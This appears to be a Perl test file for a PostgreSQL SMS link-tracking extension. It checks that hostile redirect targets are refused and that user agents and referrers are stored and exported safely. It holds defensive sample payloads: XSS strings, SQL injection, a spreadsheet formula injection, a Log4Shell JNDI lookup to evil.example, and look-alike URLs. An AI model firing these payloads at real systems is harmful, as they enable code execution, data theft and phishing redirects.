# Hostile targets (test/data/hostile_targets.tsv) are neither written nor passed on: not in
# a body, by a function, by a merge field, nor where somebody has put them into the tables
# by force. Hostile user agents and referrers are stored as text, and exported as text.
use strict;
use warnings;
use FindBin;
use lib $FindBin::RealBin;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Smstrack;
use Test::More;

my $node = new_node('hostile');

sub query { my ($sql) = @_; return $node->safe_psql('postgres', $sql); }

my (@kinds, @targets, %seen);
for my $line (split /\n/, slurp_file("$FindBin::RealBin/../data/hostile_targets.tsv")) {
    next if $line =~ /^#/;
    my ($kind, $target) = $line =~ /^([\w-]+)\t(.*)$/ or die $line;
    $target =~ s/\\x([0-9A-F]{2})/chr hex $1/ge;
    $seen{$kind}++;
    push @kinds, $kind;
    push @targets, $target;
}
cmp_ok(scalar(@targets), '>=', 300, scalar(@targets) . ' hostile targets of ' . scalar(keys %seen) . ' kinds');

# What has a NUL, or is no UTF-8, is no text of this server's.
my @texts = grep { $targets[$_] !~ /\0/ } 0 .. $#targets;
for my $i (grep { $targets[$_] =~ /\0/ } 0 .. $#targets) {
    my ($status, $out, $err) = $node->psql('postgres', sprintf(q{SELECT convert_from('\x%s', 'UTF8')}, unpack('H*', $targets[$i])));
    like($err, qr/invalid byte sequence/, 'a target with a NUL is refused by the server');
}

query("SELECT smstrack_domain('go.example.com')");
query('CREATE TABLE hostile (n int, kind text, url text)');
query('INSERT INTO hostile VALUES ' . join ', ', map { sprintf q{(%d, '%s', convert_from('\x%s', 'UTF8'))}, $_, $kinds[$_], unpack 'H*', $targets[$_] } @texts);
is(query('SELECT count(*) FROM hostile'), scalar(@texts), 'the others are');

# Runs a statement for each target; gives those for which it did not fail as it should.
query(<<'SQL');
CREATE FUNCTION unrefused(statement text, sqlstates text[]) RETURNS SETOF text LANGUAGE plpgsql AS $$
DECLARE
    h record;
BEGIN
    FOR h IN SELECT * FROM hostile ORDER BY n LOOP
        BEGIN
            EXECUTE format(statement, h.url);
            RETURN NEXT format('%s %s %L', h.n, h.kind, left(h.url, 60));
        EXCEPTION WHEN OTHERS THEN
            IF SQLSTATE <> ALL (sqlstates) THEN
                RETURN NEXT format('%s %s %L: %s %s', h.n, h.kind, left(h.url, 60), SQLSTATE, SQLERRM);
            END IF;
        END;
    END LOOP;
END
$$;
SELECT smstrack_campaign('plain', 'Hi https://good.example/');
SQL
is(query(q{SELECT * FROM unrefused('SELECT smstrack_retarget(''plain'', 0, %L)', '{22023}')}), '', 'smstrack_retarget refuses all');
is(query(q{SELECT * FROM unrefused('SELECT smstrack_import_links(''go.example.com'', ''{vanity}'', ARRAY[%L])', '{22023}')}), '', 'smstrack_import_links too');
is(query(q{SELECT * FROM unrefused('SELECT smstrack_domain(''go.example.com'', fallback_url => %L)', '{22023}')}), '', 'smstrack_domain too');
is(query(q{SELECT * FROM unrefused('SELECT smstrack_campaign(''x'', ''x'', fallback_url => %L)', '{22023}')}), '', 'smstrack_campaign too');
is(query(q{SELECT * FROM unrefused('UPDATE smstrack.campaign SET fallback_url = %L', '{23514}')}), '', 'the table too');

# In a body: what is tracked leads to a host that stands there for all to see.
query(<<'SQL');
CREATE TABLE sent AS SELECT h.*, p.message_id, p.links FROM hostile AS h, smstrack_prepare('See ' || h.url || ' now', '+4915112340000') AS p;
CREATE TABLE answered AS SELECT s.n, s.kind, s.url, a.status, a.target_url
FROM sent AS s, generate_series(0, s.links - 1) AS p, smstrack_hit(smstrack_code(s.message_id, p)) AS a;
SQL
my $browser = q{target_url !~ '^https?://([a-z0-9_-]+([.][a-z0-9_-]+)+[.]?|\[[0-9a-f:]+\])(:[0-9]+)?([/?#][!#-;=?-\[\]^-~]*)?$'};
is(query(qq{SELECT n, kind, target_url FROM answered WHERE status <> 'found' OR $browser}), '', 'what is tracked of a body is what a browser requests');
# https://good.example;@evil.example/ has a link to good.example: what is behind it stays text
is(query(q{SELECT n, url, target_url FROM answered WHERE kind IN ('userinfo', 'look-alike', 'scheme') AND target_url !~ '^https://good[.]example(/|$)'}), '',
    'foreign schemes, users and look-alikes lead nowhere');
is(query(q{SELECT n, kind, url, target_url FROM answered WHERE strpos(lower(translate(url, '。．', '..')), substring(target_url FROM '^https?://([^/?#:]*)')) = 0}), '',
    'the host stands in the body');

# By force: in the message, in the variant, in an alias, as a fallback.
query(<<'SQL');
ALTER TABLE smstrack.variant DISABLE TRIGGER variant_retarget;
ALTER TABLE smstrack.link_alias DROP CONSTRAINT link_alias_target_url_check;
ALTER TABLE smstrack.link_domain DROP CONSTRAINT link_domain_fallback_url_check;
ALTER TABLE smstrack.campaign DROP CONSTRAINT campaign_fallback_url_check;
CREATE TABLE audience AS SELECT '+4915112340000' AS recipient;
SELECT smstrack_launch('plain', 'audience');
CREATE FUNCTION passed_on(force text, request text) RETURNS SETOF text LANGUAGE plpgsql AS $$
DECLARE
    h record;
    a record;
BEGIN
    FOR h IN SELECT * FROM hostile WHERE kind <> 'long' OR length(url) > 2048 ORDER BY n LOOP
        EXECUTE force USING h.url;
        FOR a IN EXECUTE request LOOP
            IF a.target_url IS NOT NULL OR a.fallback_url IS NOT NULL OR a.token IS NOT NULL OR a.status = 'found' THEN
                RETURN NEXT format('%s %s %L: %s', h.n, h.kind, left(h.url, 60), a);
            END IF;
        END LOOP;
    END LOOP;
END
$$;
SQL
my $single = query(q{SELECT max(message_id) FROM smstrack.message WHERE campaign IS NULL});
query(qq{UPDATE smstrack.message SET links = 1 WHERE message_id = $single});
# a link of a body may lack the scheme: the browser adds it
my $bare = q{^\d+ (?:none|host|wide) };
is(join("\n", grep { !/$bare/ || /javascript|evil\.example\// } split /\n/, query(qq{SELECT * FROM passed_on('UPDATE smstrack.message SET target_urls = ARRAY[\$1] WHERE message_id = $single', 'SELECT * FROM smstrack_hit(smstrack_code($single))')})),
    '', 'a message');
is(query(q{SELECT * FROM passed_on('UPDATE smstrack.variant SET target_urls = ARRAY[$1]', 'SELECT a.* FROM smstrack.message AS m JOIN smstrack.campaign AS c ON c.id = m.campaign, smstrack_hit(smstrack_code(message_id)) AS a')}), '', 'a variant');
query(q{SELECT smstrack_import_links('go.example.com', '{vanity}', '{https://good.example/}')});
is(query(q{SELECT * FROM passed_on('UPDATE smstrack.link_alias SET target_url = $1', $$SELECT * FROM smstrack_hit('vanity')$$)}), '', 'an alias');
is(query(q{SELECT * FROM passed_on('UPDATE smstrack.link_domain SET fallback_url = $1', $$SELECT * FROM smstrack_hit('00000000')$$)}), '', 'a fallback of a link domain');
query(q{UPDATE smstrack.link_domain SET fallback_url = NULL; UPDATE smstrack.campaign SET status = 'disabled'});
is(query(q{SELECT * FROM passed_on('UPDATE smstrack.campaign SET fallback_url = $1', 'SELECT a.* FROM smstrack.message AS m JOIN smstrack.campaign AS c ON c.id = m.campaign, smstrack_hit(smstrack_code(message_id)) AS a')}), '', 'a fallback of a campaign');

# By merge fields: whatever stands in them, the link leads where the text says.
query(<<'SQL');
UPDATE smstrack.campaign SET fallback_url = NULL;
DROP TABLE audience;
CREATE TABLE audience AS SELECT '+49151200' || (10000 + n) AS recipient, url AS t FROM hostile WHERE octet_length(url) < 1000;
SELECT smstrack_campaign('merged', 'Hi https://shop.example/{{t}} https://shop.example/x?u={{t}} https://shop.example/#{{t}} {{t}}');
SELECT smstrack_launch('merged', 'audience');
CREATE TABLE merged AS SELECT m.recipient, p, a.status, a.target_url FROM smstrack.message AS m JOIN smstrack.campaign AS c ON c.id = m.campaign AND c.name = 'merged',
    generate_series(0, m.links - 1) AS p, smstrack_hit(smstrack_code(m.message_id, p)) AS a;
SQL
is(query(q{SELECT count(DISTINCT recipient), max(p) FROM merged}), query('SELECT count(*) FROM audience') . '|2', 'everybody has three links, and none by his field');
is(query(qq{SELECT * FROM merged WHERE status <> 'found' OR $browser OR target_url !~ '^https://shop[.]example/'}), '', 'each leads to the shop');

# User agents and referrers: stored without control characters, exported as they are stored.
my @texts_of_strangers = ('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'; DROP TABLE smstrack.hit; --", '=cmd|\' /C calc\'!A0', '+1+1', '@SUM(1)', '-1',
    '${jndi:ldap://evil.example/a}', "a\tb\nc\rd\x01\x7f", '%00%0d%0a', '{{7*7}}', 'Mozilla/5.0 \\x00 \\', 'x' x 5000, "\xE2\x80\xAEgpj.exe", "\xFF\xFE");
my $code = query("SELECT smstrack_code(message_id) FROM sent WHERE links > 0 AND kind = 'wide' LIMIT 1") || query('SELECT smstrack_code(max(message_id)) FROM sent WHERE links > 0');
for my $i (0 .. $#texts_of_strangers) {
    my $hex = unpack 'H*', $texts_of_strangers[$i];
    my ($status, $out, $err) = $node->psql('postgres',
        "SELECT status FROM smstrack_hit('$code', user_agent => convert_from('\\x$hex', 'UTF8'), referrer => 'https://r.example/' || convert_from('\\x$hex', 'UTF8'))");
    ok($status == 0 || $err =~ /invalid byte sequence/, "a stranger's text $i is stored, or no text");
}
is(query(q{SELECT count(*) FROM smstrack.user_agent WHERE user_agent ~ '[[:cntrl:]]' OR octet_length(user_agent) > 512}), '0', 'user agents have no control characters, and an end');
is(query(q{SELECT count(*) FROM smstrack.hit WHERE referrer ~ '[[:cntrl:]]' OR octet_length(referrer) > 2048}), '0', 'referrers neither');
is(query(q{SELECT count(*) > 0 FROM smstrack.user_agent WHERE user_agent = '<script>alert(1)</script>'}), 't', 'what is a text is stored as it is');
is(query(q{SELECT count(*) FROM smstrack_export_person('+4915112340000') AS e WHERE e.stored->>'user_agent' LIKE '%<script>%'}), '1', 'and exported as it is');
# JSON needs no escape for <: whoever puts it into a page escapes it there
is(query(q{SELECT count(*) FROM smstrack_export_person('+4915112340000') AS e WHERE (e.stored #>> '{}')::jsonb <> e.stored OR e.stored::text ~ '[[:cntrl:]]'}), '0', 'as JSON that parses');

# In a file for spreadsheets, as doc/reports.md writes it, none is a formula.
my $csv = query('COPY (SELECT smstrack_csv_text(user_agent), smstrack_csv_text(substr(referrer, 19)) FROM smstrack.hit LEFT JOIN smstrack.user_agent USING (user_agent_id)) TO STDOUT (FORMAT csv)');
like($csv, qr/^"?'=cmd\|' \/C calc'!A0"?,/m, 'a formula is in the file, as text');
unlike($csv, qr/(^|,)"?\s*[=+@-]/m, 'and nothing else that a spreadsheet would carry out');

$node->stop;
done_testing();
